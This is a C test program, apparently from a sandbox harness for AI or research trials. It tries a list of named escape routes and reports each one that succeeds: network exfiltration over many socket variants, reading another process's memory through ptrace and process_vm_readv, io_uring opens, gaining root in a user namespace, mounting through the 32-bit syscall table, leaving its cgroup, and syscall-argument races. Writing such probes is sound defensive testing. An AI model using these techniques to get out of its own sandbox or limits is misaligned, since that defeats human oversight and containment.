/*
 * Attacks on what holds a trial, each by its name; exit 0 where it succeeded, and it says what it
 * got. What it needs that is not its own to make is made by
 *
 *	attacks at-home <attack>…
 *
 * in which it runs plainly, in namespaces where 192.0.2.1 and 2001:db8::1 are the machine's own
 * addresses and mounts may be made; whatever reaches those addresses there is printed.
 *
 *	attacks race open|send <n> <seconds>
 *
 * hands a system call an argument that another thread changes all the time, n times, and prints
 * what really happened, and how often the argument said something else when the call returned.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define V4 "192.0.2.1"
#define V6 "2001:db8::1"
#define STREAM_PORT 80
#define DATAGRAM_PORT 9
#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif

static volatile char secret[] = "a secret of another process";

/* --- Out into the network */

/* How an address is handed over, where it is not by connect(2). */
enum way { CONNECT, SENDTO, SENDMSG, SENDMMSG, FAST_OPEN, CONNECT_BOTH, CONNECT_LATER };

static socklen_t address(struct sockaddr_storage *ret, const char *text, int port)
{
	struct sockaddr_in *in = (void *)ret;
	struct sockaddr_in6 *in6 = (void *)ret;

	memset(ret, 0, sizeof(*ret));
	if (inet_pton(AF_INET, text, &in->sin_addr) == 1) {
		in->sin_family = AF_INET;
		in->sin_port = htons((unsigned short)port);
		return sizeof(*in);
	}
	inet_pton(AF_INET6, text, &in6->sin6_addr);
	in6->sin6_family = AF_INET6;
	in6->sin6_port = htons((unsigned short)port);
	return sizeof(*in6);
}

static int go(int fd, enum way way, struct sockaddr_storage *to, socklen_t len)
{
	struct sockaddr none = { .sa_family = AF_UNSPEC };
	struct sockaddr_storage own;
	socklen_t own_len = address(&own, to->ss_family == AF_INET ? "127.0.0.1" : "::1", 9);
	struct iovec data = { .iov_base = "secret", .iov_len = 6 };
	struct mmsghdr message = { .msg_hdr = { .msg_name = to,
						.msg_namelen = len,
						.msg_iov = &data,
						.msg_iovlen = 1 } };

	switch (way) {
	case CONNECT_BOTH: /* our own first, then another than it is connected to */
		return connect(fd, (void *)&own, own_len) ||
				       sendto(fd, "secret", 6, 0, (void *)to, len) != 6
			       ? -1
			       : 0;
	case CONNECT_LATER: /* after it was taken back */
		if (connect(fd, (void *)&own, own_len) || connect(fd, &none, sizeof(none)))
			return -1;
		/* fallthrough */
	case CONNECT:
		return connect(fd, (void *)to, len) || send(fd, "secret", 6, 0) != 6 ? -1 : 0;
	case SENDTO:
		return sendto(fd, "secret", 6, 0, (void *)to, len) == 6 ? 0 : -1;
	case SENDMSG:
		return sendmsg(fd, &message.msg_hdr, 0) == 6 ? 0 : -1;
	case SENDMMSG:
		return sendmmsg(fd, &message, 1, 0) == 1 ? 0 : -1;
	case FAST_OPEN:
		return sendto(fd, "secret", 6, MSG_FASTOPEN, (void *)to, len) == 6 ? 0 : -1;
	}
	return -1;
}

static const struct {
	const char *name, *address;
	int family, type, protocol,
		claimed; /* claimed: the family that the address says, or 0 */
	enum way way;
} ways[] = {
	{ "tcp4", V4, AF_INET, SOCK_STREAM, 0, 0, CONNECT },
	{ "tcp6", V6, AF_INET6, SOCK_STREAM, 0, 0, CONNECT },
	{ "tcp-mapped", "::ffff:" V4, AF_INET6, SOCK_STREAM, 0, 0, CONNECT },
	{ "tcp-fast-open", V4, AF_INET, SOCK_STREAM, 0, 0, FAST_OPEN },
	{ "mptcp", V4, AF_INET, SOCK_STREAM, IPPROTO_MPTCP, 0, CONNECT },
	{ "udp4", V4, AF_INET, SOCK_DGRAM, 0, 0, SENDTO },
	{ "udp4-connected", V4, AF_INET, SOCK_DGRAM, 0, 0, CONNECT },
	{ "udp4-connected-elsewhere", V4, AF_INET, SOCK_DGRAM, 0, 0, CONNECT_BOTH },
	{ "udp4-connected-again", V4, AF_INET, SOCK_DGRAM, 0, 0, CONNECT_LATER },
	{ "udp4-sendmsg", V4, AF_INET, SOCK_DGRAM, 0, 0, SENDMSG },
	{ "udp4-of-no-family", V4, AF_INET, SOCK_DGRAM, 0, -1, SENDTO },
	{ "udplite", V4, AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE, 0, SENDTO },
	{ "udp6", V6, AF_INET6, SOCK_DGRAM, 0, 0, SENDTO },
	{ "udp6-sendmmsg", V6, AF_INET6, SOCK_DGRAM, 0, 0, SENDMMSG },
	{ "udp6-connected", V6, AF_INET6, SOCK_DGRAM, 0, 0, CONNECT },
	{ "udp-mapped", "::ffff:" V4, AF_INET6, SOCK_DGRAM, 0, 0, SENDTO },
	{ "udp-mapped-connected", "::ffff:" V4, AF_INET6, SOCK_DGRAM, 0, 0, CONNECT },
	{ "udp6-to-an-ipv4-address", V4, AF_INET6, SOCK_DGRAM, 0, 0, SENDTO },
	{ "udp6-connected-to-an-ipv4-address", V4, AF_INET6, SOCK_DGRAM, 0, 0, CONNECT },
};

static int reach(size_t i)
{
	int port = ways[i].type == SOCK_STREAM ? STREAM_PORT : DATAGRAM_PORT;
	struct sockaddr_storage to;
	socklen_t len = address(&to, ways[i].address, port);
	int fd = socket(ways[i].family, ways[i].type, ways[i].protocol);

	if (ways[i].claimed)
		to.ss_family = AF_UNSPEC;
	return fd < 0 ? -1 : go(fd, ways[i].way, &to, len);
}

/* --- Into other processes, and the kernel */

static pid_t victim(void)
{
	pid_t pid = fork();

	if (!pid) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		memcpy((void *)secret, "the secret", 10);
		pause();
	}
	usleep(50000);
	return pid;
}

static int look_by_ptrace(void)
{
	pid_t pid = victim();
	long word;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0))
		return -1;
	waitpid(pid, NULL, 0);
	word = ptrace(PTRACE_PEEKDATA, pid, secret, 0);
	return memcmp(&word, "the secr", 8) ? -1 : 0;
}

static int look_by_readv(void)
{
	char copy[10];
	struct iovec here = { copy, sizeof(copy) }, there = { (void *)secret, sizeof(copy) };

	if (process_vm_readv(victim(), &here, 1, &there, 1, 0) != sizeof(copy))
		return -1;
	return memcmp(copy, "the secret", sizeof(copy)) ? -1 : 0;
}

static int make_map(void)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 8, .max_entries = 1
	};

	return syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)) < 0 ? -1 : 0;
}

static int count_events(void)
{
	struct perf_event_attr attr = { .type = PERF_TYPE_SOFTWARE,
					.size = sizeof(attr),
					.config = PERF_COUNT_SW_TASK_CLOCK };
	long long value;
	int fd = (int)syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);

	return fd < 0 || read(fd, &value, sizeof(value)) != sizeof(value) ? -1 : 0;
}

static int keep_key(void)
{
	char back[16] = "";
	long key = syscall(SYS_add_key, "user", "autoresearch", "secret", 6,
			   KEY_SPEC_PROCESS_KEYRING);

	if (key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, back, sizeof(back)) != 6)
		return -1;
	return strcmp(back, "secret") ? -1 : 0;
}

/* Opens a file without a system call that opens. */
static int open_by_ring(void)
{
	struct io_uring_params p = { 0 };
	int fd = (int)syscall(SYS_io_uring_setup, 1, &p), n;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	char *sq, *cq;

	if (fd < 0)
		return -1;
	sq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_CQ_RING);
	sqe = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqe == MAP_FAILED)
		return -1;
	sqe->opcode = IORING_OP_OPENAT;
	sqe->fd = AT_FDCWD;
	sqe->addr = (unsigned long)"/dev/null";
	sqe->open_flags = O_WRONLY;
	((unsigned *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	n = (int)syscall(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return n == 1 && cqe->res >= 0 ? 0 : -1;
}

static int handle_faults(void)
{
	return syscall(SYS_userfaultfd, O_CLOEXEC) < 0 ? -1 : 0;
}

/* In a user namespace of our own all capabilities are ours: the host's name can be set in it. */
static int be_root(int flags)
{
	return unshare(flags) || sethostname("mine", 4) ? -1 : 0;
}

static int child_of_clone(void *arg)
{
	(void)arg;
	return sethostname("mine", 4) ? 1 : 0;
}

static int be_root_by_clone(void)
{
	static char stack[65536];
	int status;
	pid_t pid = clone(child_of_clone, stack + sizeof(stack),
			  CLONE_NEWUSER | CLONE_NEWUTS | SIGCHLD, NULL);

	return pid < 0 || waitpid(pid, &status, 0) < 0 || status ? -1 : 0;
}

static int cover(void)
{
	return mount("tmpfs", "/tmp", "tmpfs", 0, "") || access("/tmp/.", F_OK) ? -1 : 0;
}

/* The same by way of the 32-bit table, with strings where 32 bits reach. */
static int cover_by_i386(void)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long ret;

	strcpy(low, "tmpfs");
	strcpy(low + 16, "/tmp");
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "0"(21L), "b"(low), "c"(low + 16), "d"(low), "S"(0L), "D"(low + 32)
			 : "r8", "r9", "r10", "r11", "memory");
	return ret ? -1 : 0;
}

/* Out of its cgroup, into the one at the top, or into a new one: past limits and guards. */
static int leave_cgroup(int into_child)
{
	static const char *const roots[] = { "/sys/fs/cgroup/unified", "/sys/fs/cgroup" };
	char path[256], was[4096], self[4200] = "";
	FILE *f = fopen("/proc/self/cgroup", "r");
	int fd = -1, ret;

	while (f && fgets(was, sizeof(was), f))
		if (!strncmp(was, "0::", 3))
			snprintf(self, sizeof(self), "%.*s", (int)strcspn(was + 3, "\n"),
				 was + 3);
	for (size_t i = 0; i < 2 && fd < 0; i++) {
		snprintf(path, sizeof(path), "%s/attack", roots[i]);
		if (into_child && mkdir(path, 0755) && errno != EEXIST)
			continue;
		snprintf(path, sizeof(path), "%s%s/cgroup.procs", roots[i],
			 into_child ? "/attack" : "");
		fd = open(path, O_WRONLY);
	}
	if (fd < 0)
		return -1;
	ret = write(fd, "0", 1) == 1 ? 0 : -1;
	/* Back, so that nothing is left behind. */
	snprintf(was, sizeof(was), "%.*s%.3000s/cgroup.procs",
		 (int)(strstr(path, "/attack") ? strstr(path, "/attack") - path
					       : strstr(path, "/cgroup.procs") - path),
		 path, self);
	fd = open(was, O_WRONLY);
	if (fd >= 0 && write(fd, "0", 1) == 1 && into_child) {
		*strstr(path, "/cgroup.procs") = '\0';
		rmdir(path);
	}
	return ret;
}

static int attack(const char *name)
{
	for (size_t i = 0; i < sizeof(ways) / sizeof(*ways); i++)
		if (!strcmp(ways[i].name, name))
			return reach(i);
	return !strcmp(name, "ptrace")		   ? look_by_ptrace()
	       : !strcmp(name, "process_vm_readv") ? look_by_readv()
	       : !strcmp(name, "bpf")		   ? make_map()
	       : !strcmp(name, "perf_event_open")  ? count_events()
	       : !strcmp(name, "keyctl")	   ? keep_key()
	       : !strcmp(name, "io_uring")	   ? open_by_ring()
	       : !strcmp(name, "userfaultfd")	   ? handle_faults()
	       : !strcmp(name, "user-namespace")   ? be_root(CLONE_NEWUSER | CLONE_NEWUTS)
	       : !strcmp(name, "user-namespace-by-clone") ? be_root_by_clone()
	       : !strcmp(name, "mount")			  ? cover()
	       : !strcmp(name, "mount-by-i386")		  ? cover_by_i386()
	       : !strcmp(name, "cgroup.procs")		  ? leave_cgroup(0)
	       : !strcmp(name, "child-cgroup")		  ? leave_cgroup(1)
							  : (errno = EINVAL, -1);
}

/* --- Races */

static char path[] = "/tmp/race-a";
static volatile int flips;
static struct sockaddr_in target = { .sin_family = AF_INET };

/* The two threads each on a processor of their own, where there are two. */
static void stay_on(long cpu)
{
	cpu_set_t cpus;

	CPU_ZERO(&cpus);
	CPU_SET(cpu, &cpus);
	sched_setaffinity(0, sizeof(cpus), &cpus);
}

static void *flip(void *arg)
{
	int is_open = !strcmp(arg, "open");
	volatile char *c = path + strlen(path) - 1;
	volatile in_port_t *port = &target.sin_port;

	stay_on(sysconf(_SC_NPROCESSORS_ONLN) - 1);
	for (;; flips++) {
		if (is_open)
			*c = *c == 'a' ? 'b' : 'a';
		else
			*port = *port == htons(7001) ? htons(7002) : htons(7001);
		for (volatile int i = 0; i < 200; i++)
			;
	}
	return NULL;
}

static int receiver(int port)
{
	struct sockaddr_storage here;
	socklen_t len = address(&here, "127.0.0.1", port);
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

	return bind(fd, (void *)&here, len) ? -1 : fd;
}

static int seconds_since(const struct timespec *start)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int)(now.tv_sec - start->tv_sec);
}

/* At least `n` times, and for up to `patience` seconds until both ends were reached and one of
 * them by a lie: the other thread may not get a processor for a while. */
static int race(const char *kind, int n, int patience)
{
	int counts[2] = { 0 }, wrong = 0, fds[2], to = socket(AF_INET, SOCK_DGRAM, 0);
	struct timespec start;
	struct stat files[2], st;
	pthread_t thread;

	close(open("/tmp/race-a", O_RDONLY | O_CREAT, 0644));
	close(open("/tmp/race-b", O_RDONLY | O_CREAT, 0644));
	stat("/tmp/race-a", &files[0]);
	stat("/tmp/race-b", &files[1]);
	fds[0] = receiver(7001);
	fds[1] = receiver(7002);
	target.sin_port = htons(7001);
	inet_pton(AF_INET, "127.0.0.1", &target.sin_addr);
	if (pthread_create(&thread, NULL, flip, (void *)kind))
		return 1;
	stay_on(0);
	while (flips < 100)
		sched_yield();
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (int i = 0;
	     i < n || (!(wrong && counts[0] && counts[1]) && seconds_since(&start) < patience);
	     i++) {
		int said, which;
		char c;

		if (!strcmp(kind, "open")) {
			int fd = open(path, O_WRONLY);

			said = path[strlen(path) - 1] - 'a';
			if (fd < 0 || fstat(fd, &st))
				return 1;
			close(fd);
			which = st.st_ino == files[1].st_ino;
		} else {
			if (sendto(to, "x", 1, 0, (void *)&target, sizeof(target)) != 1)
				return 1;
			said = target.sin_port == htons(7002);
			which = recv(fds[1], &c, 1, 0) == 1;
			if (!which && recv(fds[0], &c, 1, 0) != 1)
				return 1;
		}
		counts[which]++;
		wrong += said != which;
	}
	printf("%d %d %d\n", counts[0], counts[1], wrong);
	return 0;
}

/* --- At home */

static void bring_up(void)
{
	struct ifreq lo = { .ifr_name = "lo" }, second = { .ifr_name = "lo:1" };
	struct {
		struct in6_addr address;
		unsigned prefix;
		int index;
	} v6 = { .prefix = 128 };
	struct sockaddr_storage v4;
	int fd = socket(AF_INET, SOCK_DGRAM, 0), fd6 = socket(AF_INET6, SOCK_DGRAM, 0);

	ioctl(fd, SIOCGIFFLAGS, &lo);
	lo.ifr_flags |= IFF_UP;
	ioctl(fd, SIOCSIFFLAGS, &lo);
	address(&v4, V4, 0);
	memcpy(&second.ifr_addr, &v4, sizeof(struct sockaddr_in));
	if (ioctl(fd, SIOCSIFADDR, &second))
		perror(V4);
	inet_pton(AF_INET6, V6, &v6.address);
	v6.index = (int)if_nametoindex("lo");
	if (ioctl(fd6, SIOCSIFADDR, &v6))
		perror(V6);
	close(fd);
	close(fd6);
}

static int listener(int type, int protocol, int port)
{
	struct sockaddr_storage any;
	socklen_t len = address(&any, "::", port);
	int fd = socket(AF_INET6, type, protocol), no = 0;

	setsockopt(fd, IPPROTO_IPV6, IPV6_V6ONLY, &no, sizeof(no));
	if (bind(fd, (void *)&any, len) || (type == SOCK_STREAM && listen(fd, 8)))
		perror("listener");
	return fd;
}

static int at_home(const char *self, char **names)
{
	struct pollfd fds[3] = { { .events = POLLIN },
				 { .events = POLLIN },
				 { .events = POLLIN } };
	int who = getuid() ? CLONE_NEWUSER : 0, status, fast = 3;
	char buf[16];
	FILE *f;

	if (unshare(who | CLONE_NEWNET | CLONE_NEWNS) ||
	    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		return 2;
	f = fopen("/proc/sys/net/ipv4/tcp_fastopen", "w");
	if (f && fputs("7", f) >= 0)
		fclose(f);
	bring_up();
	fds[0].fd = listener(SOCK_STREAM, 0, STREAM_PORT);
	fds[1].fd = listener(SOCK_DGRAM, 0, DATAGRAM_PORT);
	fds[2].fd = listener(SOCK_DGRAM, IPPROTO_UDPLITE, DATAGRAM_PORT);
	setsockopt(fds[0].fd, IPPROTO_TCP, TCP_FASTOPEN, &fast, sizeof(fast));
	for (; *names; names++) {
		pid_t pid = fork();

		if (!pid)
			execl(self, self, *names, NULL);
		waitpid(pid, &status, 0);
		if (poll(fds, 3, 0) > 0)
			for (int i = 0; i < 3; i++) {
				int fd = !(fds[i].revents & POLLIN) ? -1
					 : i			    ? fds[i].fd
					     : accept(fds[0].fd, NULL, NULL);

				if (fd >= 0 && read(fd, buf, sizeof(buf)) == 6)
					printf("%s: received\n", *names);
				if (!i && fd >= 0)
					close(fd);
			}
		fflush(stdout);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc > 2 && !strcmp(argv[1], "at-home"))
		return at_home(argv[0], argv + 2);
	if (argc == 5 && !strcmp(argv[1], "race"))
		return race(argv[2], atoi(argv[3]), atoi(argv[4]));
	for (int i = 1; i < argc; i++) {
		int ret = attack(argv[i]);

		printf("%s: %s\n", argv[i], ret ? strerror(errno) : "succeeded");
		fflush(stdout);
	}
	return 0;
}
